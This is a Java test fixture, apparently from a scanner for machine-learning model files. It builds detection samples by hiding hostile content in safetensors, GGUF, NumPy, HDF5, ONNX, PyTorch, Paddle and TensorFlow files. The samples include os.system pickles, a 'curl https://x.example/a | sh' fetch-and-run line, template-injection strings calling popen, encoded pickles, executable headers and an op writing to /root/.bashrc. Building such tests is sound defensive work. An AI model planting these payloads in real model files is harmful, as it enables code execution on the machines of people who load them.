package dev.bartizan.artifacts;

import static dev.bartizan.artifacts.ModelFormatsScanTest.field;
import static dev.bartizan.artifacts.ModelFormatsScanTest.joined;
import static dev.bartizan.artifacts.ModelFormatsScanTest.utf8;

import dev.bartizan.testkit.Hdf5Builder;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Random;

/// Programs, pickles and archives in the bytes of tensors, in gaps and in descriptions.
final class TensorTrials {
    private static final byte[] PAYLOAD = Pickles.calling("os", "system");
    private static final int TENSOR = 400_000;

    private TensorTrials() {}

    /// What may hide among numbers, by name.
    static Map<String, byte[]> hidden() {
        return Map.of(
                "pickle-protocol-2",
                PAYLOAD,
                "pickle-protocol-0",
                utf8("cos\nsystem\n(S'id'\ntR."),
                "pickle-protocol-4",
                PickleParts.pickle(PickleParts.call("os:system", PickleParts.text("id"))),
                "elf",
                elf(),
                "pe",
                pe(),
                "mach-o",
                machO(),
                "zip",
                Scans.zip(Map.of("data.pkl", PAYLOAD)),
                "shell",
                utf8("#!/bin/sh\ncurl -s https://x.example/a | sh\n"),
                "python",
                utf8("import os\nimport socket\nos.system('curl https://x.example/a | sh')\n"));
    }

    static List<Trial> all() {
        List<Trial> all = new ArrayList<>();
        hidden().forEach((name, bytes) -> {
            all.add(
                    Trial.bad(
                            "safetensors/start-" + name,
                            "m.safetensors",
                            safetensors(numbers(bytes, 0))));
            all.add(
                    Trial.bad(
                            "safetensors/middle-" + name,
                            "m.safetensors",
                            safetensors(numbers(bytes, 200_003))));
            all.add(Trial.bad("gguf/middle-" + name, "m.gguf", gguf(numbers(bytes, 112_345))));
            all.add(Trial.bad("numpy/middle-" + name, "m.npy", npy(numbers(bytes, 109_001))));
            all.add(Trial.bad("hdf5/middle-" + name, "m.h5", hdf5(numbers(bytes, 109_001))));
            all.add(Trial.bad("onnx/middle-" + name, "m.onnx", onnx(numbers(bytes, 109_001), "")));
            all.add(Trial.bad("torch/middle-" + name, "m.pt", torch(numbers(bytes, 109_001))));
        });
        for (int seed = 0; seed < 4; seed++) {
            byte[] random = new byte[2_000_000];
            new Random(seed).nextBytes(random);
            all.add(
                    Trial.benign(
                            "safetensors/random-" + seed, "m.safetensors", safetensors(random)));
            all.add(Trial.benign("numpy/random-" + seed, "m.npy", npy(random)));
            all.add(Trial.benign("torch/random-" + seed, "m.pt", torch(random)));
            all.add(Trial.benign("gguf/floats-" + seed, "m.gguf", gguf(floats(seed, 100_000))));
        }
        all.addAll(descriptions());
        all.addAll(encoded());
        all.addAll(programs());
        return all;
    }

    private static List<Trial> descriptions() {
        String base64 = Base64.getEncoder().encodeToString(PAYLOAD);
        String template = "{{ cycler.__init__.__globals__.os.popen('id') }}";
        return List.of(
                Trial.bad("onnx/metadata-base64-pickle", "m.onnx", onnx(floats(1, 10), base64)),
                Trial.bad("onnx/metadata-template", "m.onnx", onnx(floats(1, 10), template)),
                Trial.bad(
                        "onnx/metadata-program",
                        "m.onnx",
                        onnx(floats(1, 10), "import os; os.system('id')")),
                Trial.bad(
                        "safetensors/metadata-base64-pickle",
                        "m.safetensors",
                        safetensors(floats(1, 10), base64)),
                Trial.bad(
                        "safetensors/metadata-template",
                        "m.safetensors",
                        safetensors(floats(1, 10), template)),
                Trial.bad(
                        "safetensors/metadata-lambda",
                        "m.safetensors",
                        safetensors(floats(1, 10), "lambda: __import__('os').system('id')")),
                Trial.bad(
                        "gguf/array-template",
                        "m.gguf",
                        gguf("general.tags", floats(1, 10), "text", template)),
                Trial.bad(
                        "gguf/array-base64-pickle",
                        "m.gguf",
                        gguf("general.tags", floats(1, 10), "text", base64)),
                Trial.bad(
                        "gguf/array-program",
                        "m.gguf",
                        gguf(
                                "training.hooks",
                                floats(1, 10),
                                "python -c 'import os; os.system(1)'")),
                Trial.bad(
                        "gguf/token-template",
                        "m.gguf",
                        gguf("tokenizer.ggml.tokens", floats(1, 10), "a", template)),
                Trial.bad(
                        "gguf/token-base64-pickle",
                        "m.gguf",
                        gguf("tokenizer.ggml.tokens", floats(1, 10), "a", base64)));
    }

    /// Operators of Paddle and TensorFlow.
    private static List<Trial> programs() {
        List<Trial> all = new ArrayList<>();
        for (String type : List.of("py_func", "py_layer", "save_combine", "load")) {
            all.add(Trial.bad("paddle/" + type, "m.pdmodel", paddle(type)));
        }
        all.add(Trial.benign("paddle/conv2d", "m.pdmodel", paddle("conv2d")));
        for (String type :
                List.of("EagerPyFunc", "PyFunc", "ReadFile", "WriteFile", "SaveDatasetV2")) {
            all.add(Trial.bad("tensorflow/" + type, "g.pb", tensorflow(type, "file")));
        }
        all.add(Trial.benign("tensorflow/MatMul", "g.pb", tensorflow("MatMul", "x")));
        all.add(
                Trial.bad(
                        "tensorflow/print-into-file",
                        "g.pb",
                        tensorflow("PrintV2", "file:///root/.bashrc")));
        return all;
    }

    private static byte[] paddle(String type) {
        return field(1, joined(field(1, 0), field(2, 0), field(4, field(3, type))));
    }

    private static byte[] tensorflow(String type, String stream) {
        byte[] attribute = joined(field(1, "output_stream"), field(2, field(2, stream)));
        byte[] node = joined(field(1, "n"), field(2, type), field(5, attribute));
        return joined(field(1, node), field(4, field(1, 27)));
    }

    /// Ways to write a pickle into a text.
    private static List<Trial> encoded() {
        String base64 = Base64.getEncoder().encodeToString(PAYLOAD);
        String twice = Base64.getEncoder().encodeToString(utf8(base64));
        StringBuilder literal = new StringBuilder();
        StringBuilder escaped = new StringBuilder();
        StringBuilder numbers = new StringBuilder();
        for (byte b : PAYLOAD) {
            literal.append(String.format("\\\\x%02x", b & 0xff));
            numbers.append(b & 0xff).append(", ");
        }
        base64.chars().forEach(c -> escaped.append(String.format("\\u%04x", c)));
        String lines = base64.replaceAll("(.{20})", "$1\n    ");
        List<Trial> all = new ArrayList<>();
        Map.of(
                        "twice", twice,
                        "gzip", Base64.getEncoder().encodeToString(gzip(PAYLOAD)),
                        "literal", literal.toString(),
                        "escaped", escaped.toString())
                .forEach((name, text) ->
                        all.add(
                                Trial.bad(
                                        "encoded/json-" + name,
                                        "config.json",
                                        utf8(
                                                "{\"model_type\":\"bert\",\"x\":{\"state\":\""
                                                        + text
                                                        + "\"}}"))));
        all.add(
                Trial.bad(
                        "encoded/json-numbers", "config.json", utf8("{\"x\":[" + numbers + "0]}")));
        all.add(
                Trial.bad(
                        "encoded/yaml-binary",
                        "state.yaml",
                        utf8("x: !!binary |\n    " + lines + "\n")));
        all.add(
                Trial.bad(
                        "encoded/python-literal",
                        "load.py",
                        utf8(
                                "import pickle\nDATA = b'"
                                        + literal.toString().replace("\\\\", "\\")
                                        + "'\n")));
        return all;
    }

    static byte[] gzip(byte[] content) {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        try (java.util.zip.GZIPOutputStream gzip = new java.util.zip.GZIPOutputStream(out)) {
            gzip.write(content);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    static byte[] numbers(byte[] hidden, int at) {
        byte[] tensor = floats(7, TENSOR / 4);
        System.arraycopy(hidden, 0, tensor, at, hidden.length);
        return tensor;
    }

    static byte[] floats(long seed, int count) {
        ByteBuffer out = ByteBuffer.allocate(count * 4).order(ByteOrder.LITTLE_ENDIAN);
        Random random = new Random(seed);
        for (int i = 0; i < count; i++) {
            out.putFloat((float) (random.nextGaussian() * 0.02));
        }
        return out.array();
    }

    static byte[] safetensors(byte[] tensor) {
        return safetensors(tensor, "pt");
    }

    static byte[] safetensors(byte[] tensor, String metadata) {
        String header =
                "{\"__metadata__\":{\"format\":\""
                        + metadata.replace("\"", "\\\"")
                        + "\"},\"w\":{\"dtype\":\"U8\",\"shape\":["
                        + tensor.length
                        + "],\"data_offsets\":[0,"
                        + tensor.length
                        + "]}}";
        String padded = header + " ".repeat((8 - header.length() % 8) % 8);
        byte[] length =
                ByteBuffer.allocate(8)
                        .order(ByteOrder.LITTLE_ENDIAN)
                        .putLong(padded.length())
                        .array();
        return joined(length, utf8(padded), tensor);
    }

    static byte[] gguf(byte[] tensor) {
        return gguf("general.tags", tensor, "text");
    }

    /// One list of texts and one tensor of bytes (type I8, 24).
    static byte[] gguf(String key, byte[] tensor, String... texts) {
        ByteBuffer out = ByteBuffer.allocate(1 << 16).order(ByteOrder.LITTLE_ENDIAN);
        out.put(utf8("GGUF")).putInt(3).putLong(1).putLong(1);
        text(out, key);
        out.putInt(9).putInt(8).putLong(texts.length);
        for (String text : texts) {
            text(out, text);
        }
        text(out, "w");
        out.putInt(1).putLong(tensor.length).putInt(24).putLong(0);
        int end = (out.position() + 31) / 32 * 32;
        byte[] head = java.util.Arrays.copyOf(out.array(), end);
        byte[] padded = java.util.Arrays.copyOf(tensor, (tensor.length + 31) / 32 * 32);
        return joined(head, padded);
    }

    private static void text(ByteBuffer out, String text) {
        out.putLong(utf8(text).length).put(utf8(text));
    }

    static byte[] npy(byte[] data) {
        return FormatScanTest.npy("'|u1'", "(" + data.length + ",)", data);
    }

    static byte[] hdf5(byte[] data) {
        Hdf5Builder file = new Hdf5Builder();
        long place = file.add(data);
        long set = file.object(Hdf5Builder.numbers(place, data.length / 4));
        return file.file(0, file.oldGroup(List.of("kernel"), List.of(set)));
    }

    static byte[] onnx(byte[] tensor, String metadata) {
        byte[] weight =
                joined(field(1, tensor.length), field(2, 2), field(8, "w"), field(9, tensor));
        byte[] graph = joined(field(1, field(4, "Identity")), field(2, "g"), field(5, weight));
        byte[] opset = joined(field(1, ""), field(2, 13));
        byte[] pair = joined(field(1, "author"), field(2, metadata));
        return joined(field(1, 8), field(7, graph), field(8, opset), field(14, pair));
    }

    /// A state dictionary of no tensor, and a storage beside it.
    static byte[] torch(byte[] storage) {
        return Scans.zip(
                Map.of(
                        "m/data.pkl", Pickles.protocol(2).ops("}.").bytes(),
                        "m/version", utf8("3\n"),
                        "m/data/0", storage));
    }

    /// A program of 64 bits for Linux: a header and one segment to load.
    static byte[] elf() {
        ByteBuffer out = ByteBuffer.allocate(160).order(ByteOrder.LITTLE_ENDIAN);
        out.put(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0}).putLong(0);
        out.putShort((short) 2).putShort((short) 62).putInt(1).putLong(0x400078).putLong(64);
        out.putLong(0).putInt(0).putShort((short) 64).putShort((short) 56).putShort((short) 1);
        out.putShort((short) 64).putShort((short) 0).putShort((short) 0);
        out.putInt(1).putInt(5).putLong(0).putLong(0x400000).putLong(0x400000);
        out.putLong(160).putLong(160).putLong(0x1000);
        return out.array();
    }

    /// A program for Windows: the stub, the signature, one section.
    static byte[] pe() {
        ByteBuffer out = ByteBuffer.allocate(512).order(ByteOrder.LITTLE_ENDIAN);
        out.put(utf8("MZ")).position(0x3c).putInt(0x80).position(0x80);
        out.put(utf8("PE\0\0")).putShort((short) 0x8664).putShort((short) 1).putInt(0);
        out.putInt(0).putInt(0).putShort((short) 240).putShort((short) 0x22);
        out.putShort((short) 0x20b).position(0x98 + 240);
        out.put(utf8(".text\0\0\0")).putInt(16).putInt(0x1000).putInt(16).putInt(0x1f0);
        return out.array();
    }

    /// A program for macOS on arm64 with one load command.
    static byte[] machO() {
        ByteBuffer out = ByteBuffer.allocate(112).order(ByteOrder.LITTLE_ENDIAN);
        out.putInt(0xfeedfacf).putInt(0x0100000c).putInt(0).putInt(2).putInt(1).putInt(72);
        out.putInt(0).putInt(0).putInt(0x19).putInt(72).put(utf8("__TEXT"));
        return out.array();
    }
}
